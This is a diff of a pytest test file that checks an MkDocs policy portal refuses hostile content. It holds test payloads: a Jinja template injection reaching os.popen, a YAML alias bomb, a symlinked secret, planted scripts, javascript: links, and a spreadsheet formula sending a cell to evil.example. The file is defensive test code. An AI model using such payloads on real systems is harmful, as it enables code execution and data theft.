@@ -13,10 +13,7 @@ import functools
 import http.server
 import os
 import re
-import subprocess
-import sys
 import threading
-import time
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from types import SimpleNamespace
@@ -27,12 +24,14 @@ import pytest
 import yaml
 from bs4 import BeautifulSoup
 
-from conftest import ROOT, QuietHandler, build, copy_project, free_port
+from conftest import ROOT, QuietHandler, build, cli_in_process, copy_project, free_port
+from golden import INJECTION, INJECTION_REPORT, REGENERATE, add_injection, check
+from macros import frontmatter
 from macros.frontmatter import confined, read_file, read_source, split_front_matter
 from macros.records import collect_problems
 
-FIXTURES = ROOT / "tests" / "fixtures" / "injection"
-EXPECTED = (FIXTURES / "expected.txt").read_text(encoding="utf-8")
+FIXTURES = INJECTION
+EXPECTED = INJECTION_REPORT.expected()  # a golden file: `make golden` rewrites it from the current checker
 BODY = "policies/renshe/renshe-injection-body/index.html"
 PLAIN = "policies/renshe/renshe-injection-plain/index.html"
 TEMPLATE_MESSAGE = "不能包含模板符号"
@@ -40,24 +39,9 @@ BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
 LOADING_RELS = {"stylesheet", "icon", "preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "manifest"}
 
 
-def install(project: Path, kind: str, marker: Path) -> list[Path]:
-    """Copy the corpus' ``kind`` records into a project, with ``@MARKER@`` made a real path."""
-    added = []
-    for fixture in sorted((FIXTURES / kind).glob("*/*.md")):
-        target = project / "docs" / "policies" / fixture.parent.name / fixture.name
-        target.write_text(fixture.read_text(encoding="utf-8").replace("@MARKER@", str(marker)), encoding="utf-8")
-        added.append(target)
-    return added
-
-
 def traces(marker: Path) -> list[Path]:
     """Files a payload wrote: ``<marker>-body``, ``<marker>-yaml`` …"""
     return sorted(marker.parent.glob(marker.name + "*"))
-
-
-def check(project: Path, *args: str) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "macros", "--root", str(project), "check", *args],
-                          cwd=ROOT, capture_output=True, text=True, timeout=120)
 
 
 def a_record(record_id: str, title: str, body: str = "正文。") -> str:
@@ -94,17 +78,18 @@ def test_the_yaml_tag_payload_would_run_with_an_unsafe_loader(tmp_path):
 
 def test_every_refused_record_gets_its_message_and_nothing_runs(project_copy, tmp_path):
     marker = tmp_path / "ran"
-    install(project_copy, "rejected", marker)
+    add_injection(project_copy, "rejected", marker)
     result = check(project_copy)
     assert result.returncode == 1
     assert "Traceback" not in result.stdout + result.stderr
-    assert result.stdout == EXPECTED
+    assert result.stdout == EXPECTED, REGENERATE
     assert traces(marker) == []
 
 
+@pytest.mark.slow
 def test_the_build_refuses_them_with_the_same_messages_and_publishes_nothing(project_copy, tmp_path):
     marker = tmp_path / "ran"
-    install(project_copy, "rejected", marker)
+    add_injection(project_copy, "rejected", marker)
     result = build(project_copy)
     assert result.returncode != 0
     for line in EXPECTED.strip().split("\n")[:-1]:
@@ -114,46 +99,71 @@ def test_the_build_refuses_them_with_the_same_messages_and_publishes_nothing(pro
     assert traces(marker) == []
 
 
-def test_an_alias_bomb_and_extreme_nesting_fail_fast():
+def test_an_alias_bomb_and_extreme_nesting_are_refused_unexpanded():
+    """Refused while composing, before anything is expanded (how fast: bench/hostile_input.py)."""
     for name in ("renshe-billion-laughs.md", "renshe-deep-nesting.md"):
         raw = (FIXTURES / "rejected" / "renshe" / name).read_bytes()
-        started = time.perf_counter()
         source = read_source(f"docs/policies/renshe/{name}", raw)
-        assert time.perf_counter() - started < 2, name
         assert len(source.problems) == 1 and source.meta == {}, source.problems
     # far deeper than Python's recursion limit: a message, not a RecursionError
     raw = b"---\ntopic: " + b"[" * 100_000 + b"]" * 100_000 + b"\n---\nbody\n"
-    assert [p.message for p in read_source("docs/policies/renshe/deep.md", raw).problems] == ["嵌套层级太深（超过 6 层）；请按模板填写"]
+    problems = read_source("docs/policies/renshe/deep.md", raw).problems
+    assert [p.message for p in problems] == ["嵌套层级太深（超过 6 层）；请按模板填写"]
 
 
 def test_an_oversized_record_is_refused(project_copy):
     target = project_copy / "docs" / "policies" / "renshe" / "renshe-huge.md"
     target.write_text(a_record("renshe-huge", "注入测试：超大文件", "很长的正文。" * 20_000), encoding="utf-8")
-    result = check(project_copy, str(target))
+    result = cli_in_process(project_copy, "check", str(target))
     assert result.returncode == 1
-    assert f"docs/policies/renshe/renshe-huge.md:1: 文件: 文件太大（{target.stat().st_size // 1024} KB）；一条政策应不超过 256 KB" in result.stdout
+    size = target.stat().st_size // 1024
+    expected = f"docs/policies/renshe/renshe-huge.md:1: 文件: 文件太大（{size} KB）；一条政策应不超过 256 KB"
+    assert expected in result.stdout
 
 
-def test_an_oversized_file_is_refused_before_it_is_read(tmp_path):
-    huge = tmp_path / "docs" / "policies" / "renshe" / "renshe-sparse.md"
-    huge.parent.mkdir(parents=True)
+def test_an_oversized_file_is_refused_before_it_is_read(tmp_path, monkeypatch):
+    folder = tmp_path / "docs" / "policies" / "renshe"
+    folder.mkdir(parents=True)
+    huge = folder / "renshe-sparse.md"
     with open(huge, "wb") as handle:
         handle.truncate(8 * 1024 ** 3)  # 8 GiB, sparse: reading it whole would take minutes and all memory
-    started = time.perf_counter()
+    small = folder / "renshe-small.md"
+    small.write_text(a_record("renshe-small", "注入测试：小文件"), encoding="utf-8")
+    opened = []
+
+    def spy(path, *args, **kwargs):
+        opened.append(Path(path))
+        return open(path, *args, **kwargs)
+
+    monkeypatch.setattr(frontmatter, "open", spy, raising=False)  # what read_file opens
     source = read_file(tmp_path, huge)
-    assert time.perf_counter() - started < 1
     assert [p.field for p in source.problems] == ["文件"] and "文件太大" in source.problems[0].message
+    assert opened == []
+    assert read_file(tmp_path, small).problems == [] and opened == [small]  # the spy does see a read
+
+
+def add_index_md_record(project: Path, marker: Path) -> Path:
+    """A record named ``index.md``, which matches mkdocs.yml's force_render_paths: its body would go
+    through Jinja."""
+    target = project / "docs" / "policies" / "renshe" / "index.md"
+    payload = f"{{{{ cycler.__init__.__globals__.os.popen('touch {marker}-index').read() }}}}"
+    target.write_text(a_record("index", "注入测试：首页文件名", f"{{{{ 6 + 7 }}}} {payload}"), encoding="utf-8")
+    return target
 
 
 def test_a_record_may_not_take_the_name_of_a_rendered_index_page(project_copy, tmp_path):
-    """``index.md`` matches mkdocs.yml's force_render_paths: its body would go through Jinja."""
     marker = tmp_path / "ran"
-    target = project_copy / "docs" / "policies" / "renshe" / "index.md"
-    target.write_text(a_record("index", "注入测试：首页文件名",
-                               f"{{{{ 6 + 7 }}}} {{{{ cycler.__init__.__globals__.os.popen('touch {marker}-index').read() }}}}"),
-                      encoding="utf-8")
-    result = check(project_copy, str(target))
-    assert "docs/policies/renshe/index.md:1: 文件名: 政策文件不能叫“index.md”（这是栏目首页的保留文件名）" in result.stdout
+    target = add_index_md_record(project_copy, marker)
+    result = cli_in_process(project_copy, "check", str(target))
+    assert ("docs/policies/renshe/index.md:1: 文件名: 政策文件不能叫“index.md”（这是栏目首页的保留文件名）"
+            in result.stdout)
+    assert traces(marker) == []
+
+
+@pytest.mark.slow
+def test_the_build_refuses_a_record_named_like_a_rendered_index_page(project_copy, tmp_path):
+    marker = tmp_path / "ran"
+    add_index_md_record(project_copy, marker)
     result = build(project_copy)
     assert result.returncode != 0 and "政策文件不能叫“index.md”" in result.stdout + result.stderr
     assert traces(marker) == []
@@ -180,7 +190,8 @@ def test_read_file_never_follows_a_link_or_leaves_the_project(tmp_path):
     }
     for path, message in cases.items():
         source = read_file(project, path)
-        assert source.meta == {} and len(source.problems) == 1 and message in source.problems[0].message, (path, source.problems)
+        assert source.meta == {} and len(source.problems) == 1, (path, source.problems)
+        assert message in source.problems[0].message, (path, source.problems)
         assert "外部文件的内容" not in repr(source)
         assert not confined(project, path) or message == "不是普通文件"
 
@@ -191,20 +202,49 @@ def test_a_record_reached_through_a_symlink_is_refused(project_copy, tmp_path):
     (project_copy / "docs" / "policies" / "renshe" / "renshe-outside.md").symlink_to(outside)
     problems, _ = collect_problems(project_copy)
     assert [str(p) for p in problems] == [
-        "docs/policies/renshe/renshe-outside.md:1: 文件位置: 政策文件（或它所在的文件夹）是符号链接（快捷方式），不会被读取；请提交文件本身，不要提交链接"]
+        "docs/policies/renshe/renshe-outside.md:1: 文件位置: 政策文件（或它所在的文件夹）是符号链接（快捷方式），"
+        "不会被读取；请提交文件本身，不要提交链接"]
 
 
-def test_a_department_folder_publishes_nothing_but_its_records(project_copy, tmp_path):
-    """MkDocs copies every other file, following symlinks: a link to a secret, or a department's
-    own script, would be published on the portal's origin, which script-src 'self' trusts."""
+def add_unsafe_files(project: Path, tmp_path: Path) -> None:
+    """A link to a secret outside the project, and a department's own script and page."""
     secret = tmp_path / "secret.txt"
     secret.write_text("OUTSIDE-SECRET-7f3a", encoding="utf-8")
-    folder = project_copy / "docs" / "policies" / "renshe"
+    folder = project / "docs" / "policies" / "renshe"
     (folder / "leak.txt").symlink_to(secret)
     (folder / "evil.js").write_text("document.title = 'PWNED-js'", encoding="utf-8")
     (folder / "evil.html").write_text('<script src="evil.js"></script>', encoding="utf-8")
+
+
+@pytest.mark.filterwarnings("ignore:GitWildMatchPattern:DeprecationWarning")  # what mkdocs-macros uses
+def test_the_plugin_refuses_files_a_department_folder_must_not_publish(project_copy, tmp_path):
+    """The plugin's check on MkDocs' own file list (without a build; the build: the next test)."""
+    from mkdocs.config import load_config
+    from mkdocs.exceptions import PluginError
+    from mkdocs.structure.files import get_files
+
+    from macros.plugin import refuse_unsafe_files
+
+    config = load_config(config_file=str(project_copy / "mkdocs.yml"))
+    refuse_unsafe_files(get_files(config), config)  # the project as it is passes
+    add_unsafe_files(project_copy, tmp_path)
+    with pytest.raises(PluginError) as refused:
+        refuse_unsafe_files(get_files(config), config)
+    only_records = "部门文件夹中只能放政策文件（.md）；网页、脚本、图片等附件不会发布；请删除，或在正文中写明原文链接"
+    assert str(refused.value).split("\n")[1:] == [
+        f"docs/policies/renshe/evil.html: {only_records}",
+        f"docs/policies/renshe/evil.js: {only_records}",
+        "docs/policies/renshe/leak.txt: 是符号链接（快捷方式）或指向网站文件夹之外；请提交文件本身"]
+
+
+@pytest.mark.slow
+def test_a_department_folder_publishes_nothing_but_its_records(project_copy, tmp_path):
+    """MkDocs copies every other file, following symlinks: a link to a secret, or a department's
+    own script, would be published on the portal's origin, which script-src 'self' trusts."""
+    add_unsafe_files(project_copy, tmp_path)
     result = build(project_copy)
-    published = [p for p in (project_copy / "site").rglob("*") if p.is_file()] if (project_copy / "site").exists() else []
+    site = project_copy / "site"
+    published = [p for p in site.rglob("*") if p.is_file()] if site.exists() else []
     assert not any("OUTSIDE-SECRET-7f3a" in p.read_text(errors="ignore") for p in published)
     assert not any(p.name.startswith(("evil.", "leak.")) for p in published)
     assert result.returncode != 0
@@ -222,7 +262,8 @@ def test_a_document_text_outside_data_is_never_read(project_copy, tmp_path):
     text = documents.read_text(encoding="utf-8")
     entry = yaml.safe_load(text)
     report = next(d for d in entry if d.get("kind") != "law" and d.get("text_status") == "full")
-    documents.write_text(text.replace(f"text: {report['text']}", f"text: {os.path.relpath(secret, project_copy / 'data')}"), encoding="utf-8")
+    outside = os.path.relpath(secret, project_copy / "data")
+    documents.write_text(text.replace(f"text: {report['text']}", f"text: {outside}"), encoding="utf-8")
     with pytest.raises(ContentError):
         load_portal(project_copy)
 
@@ -232,9 +273,10 @@ def test_a_document_text_outside_data_is_never_read(project_copy, tmp_path):
 
 @pytest.fixture(scope="module")
 def inert(tmp_path_factory):
+    """The inert corpus, built (an extra build: the tests using it are marked slow)."""
     project = copy_project(tmp_path_factory.mktemp("inert"))
     marker = tmp_path_factory.mktemp("traces") / "ran"
-    install(project, "inert", marker)
+    add_injection(project, "inert", marker)
     result = build(project)
     assert result.returncode == 0, result.stdout + result.stderr
     site = project / "site"
@@ -242,6 +284,7 @@ def inert(tmp_path_factory):
                            html={name: (site / name).read_text(encoding="utf-8") for name in (BODY, PLAIN)})
 
 
+@pytest.mark.slow
 def test_body_templates_are_shown_literally_and_never_run(inert):
     assert traces(inert.marker) == []
     text = BeautifulSoup(inert.html[BODY], "lxml").select_one(".portal-body").get_text()
@@ -261,6 +304,7 @@ def test_body_templates_are_shown_literally_and_never_run(inert):
     assert "正文：{{ 6 + 7 }}" in plain
 
 
+@pytest.mark.slow
 def test_a_second_front_matter_in_the_body_cannot_switch_rendering_on(inert):
     soup = BeautifulSoup(inert.html[BODY], "lxml")
     assert "render_macros: true" in soup.select_one(".portal-body").get_text()
@@ -301,6 +345,7 @@ def active_content(html: str) -> list[str]:
     return found
 
 
+@pytest.mark.slow
 def test_no_script_handler_frame_style_or_bad_url_reaches_the_page(inert):
     html = inert.html[BODY]
     assert active_content(html) == []
@@ -325,6 +370,7 @@ def test_no_script_handler_frame_style_or_bad_url_reaches_the_page(inert):
         assert not str(tag.get("id", "")).startswith(("_", "md-", "portal-")), tag
 
 
+@pytest.mark.slow
 def test_the_injection_page_runs_nothing_in_a_browser(page, inert):
     handler = functools.partial(QuietHandler, directory=str(inert.site))
     server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
@@ -336,12 +382,25 @@ def test_the_injection_page_runs_nothing_in_a_browser(page, inert):
         page.get_by_text("点击领补贴").click()
         for name in ("链接一", "链接二", "链接三", "链接四", "链接五", "链接六", "链接七"):
             page.get_by_text(name, exact=True).click()
-        page.wait_for_timeout(200)
+        # A link of our own, clicked last: once its javascript: URL has run, so has anything the
+        # clicks above queued (a javascript: URL runs in a later task, after the click returns).
+        page.evaluate("""() => {
+            const probe = document.createElement("a");
+            probe.id = "portal-test-probe";
+            probe.href = "javascript:void(window.__afterClicks = document.title)";
+            probe.textContent = "probe";
+            document.body.prepend(probe);
+        }""")
+        page.click("#portal-test-probe")
+        page.wait_for_function("typeof window.__afterClicks === 'string'")
+        assert "PWNED" not in page.evaluate("window.__afterClicks")
         assert "PWNED" not in page.title()
         assert dialogs == []
-        assert page.evaluate("document.querySelectorAll('.portal-body script, .portal-body iframe, .portal-body img').length") == 0
+        active = "document.querySelectorAll('.portal-body script, .portal-body iframe, .portal-body img').length"
+        assert page.evaluate(active) == 0
         # as the browser resolves them, only the two real external links leave this host
-        hosts = set(page.eval_on_selector_all(".md-content a[href]", "links => links.filter(a => a.protocol.startsWith('http')).map(a => a.host)"))
+        hosts = set(page.eval_on_selector_all(
+            ".md-content a[href]", "links => links.filter(a => a.protocol.startsWith('http')).map(a => a.host)"))
         assert hosts - {f"127.0.0.1:{server.server_address[1]}"} == {"www.hubei.gov.cn", "www.gov.cn"}
     finally:
         server.shutdown()
@@ -366,14 +425,15 @@ def sandbox_builds(tmp_path_factory):
         project = copy_project(tmp_path_factory.mktemp(f"sandbox-{name}"))
         marker = tmp_path_factory.mktemp(f"traces-{name}") / "ran"
         page = project / "docs" / "laws" / "index.md"
-        page.write_text(page.read_text(encoding="utf-8") + "\n\n" + SANDBOX[name][0].replace("@MARKER@", str(marker)) + "\n",
-                        encoding="utf-8")
+        payload = SANDBOX[name][0].replace("@MARKER@", str(marker))
+        page.write_text(page.read_text(encoding="utf-8") + "\n\n" + payload + "\n", encoding="utf-8")
         return name, SimpleNamespace(project=project, marker=marker, result=build(project))
 
     with ThreadPoolExecutor(max_workers=2) as pool:
         return dict(pool.map(one, SANDBOX))
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("name", sorted(SANDBOX))
 def test_portal_templates_cannot_reach_python_internals_or_files(sandbox_builds, name):
     run = sandbox_builds[name]
@@ -401,7 +461,8 @@ def test_no_generated_or_department_page_is_template_rendered():
     from macros.records import load_portal
 
     config = load_config(str(ROOT / "mkdocs.yml"))
-    spec = pathspec.PathSpec.from_lines("gitwildmatch", config.plugins["macros"].config["force_render_paths"].splitlines())
+    rendered = config.plugins["macros"].config["force_render_paths"].splitlines()
+    spec = pathspec.PathSpec.from_lines("gitwildmatch", rendered)
     portal = load_portal(ROOT)
     untrusted = [page.src_uri for page in generated_pages(portal)] + [p.path for p in portal.policies]
     untrusted += ["policies/renshe/index.md"]
@@ -420,7 +481,8 @@ def test_csv_cells_cannot_start_a_spreadsheet_formula(project_copy):
 
     target = project_copy / "docs" / "policies" / "renshe" / "renshe-formula.md"
     text = a_record("renshe-formula", "注入测试：表格公式")
-    text = re.sub(r"^summary: .*$", 'summary: \'=HYPERLINK("https://evil.example/?d="&A2,"点击查看详情")\'', text, flags=re.M)
+    formula = 'summary: \'=HYPERLINK("https://evil.example/?d="&A2,"点击查看详情")\''
+    text = re.sub(r"^summary: .*$", formula, text, flags=re.M)
     target.write_text(text, encoding="utf-8")
     rows = policies_csv(load_portal(project_copy)).lstrip("\ufeff").splitlines()
     formula_row = next(r for r in rows if r.startswith("renshe-formula,"))
